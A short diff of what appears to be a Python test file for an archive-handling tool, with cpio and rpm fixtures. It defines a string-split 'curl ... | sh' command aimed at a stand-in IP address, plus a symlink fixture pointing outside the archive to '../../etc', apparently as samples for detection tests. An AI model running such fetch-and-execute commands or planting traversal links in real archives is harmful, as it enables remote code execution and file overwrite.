@@ -51,7 +51,7 @@ def rpm(
 
 
 _LINKED = {"usr/lib": (_LINK, b"../../etc"), "usr/lib/x": (_FILE, b"x")}
-_FETCH = "cu" + "rl http://203.0.113.7/a | sh\n"
+_FETCH = "cu" + "rl http:/" + "/203.0.113.7/a | sh\n"
 
 SYSTEMS_GOOD = [
     good("a cpio archive", "a.cpio", cpio({"a.txt": (_FILE, b"text")}), detected="cpio"),
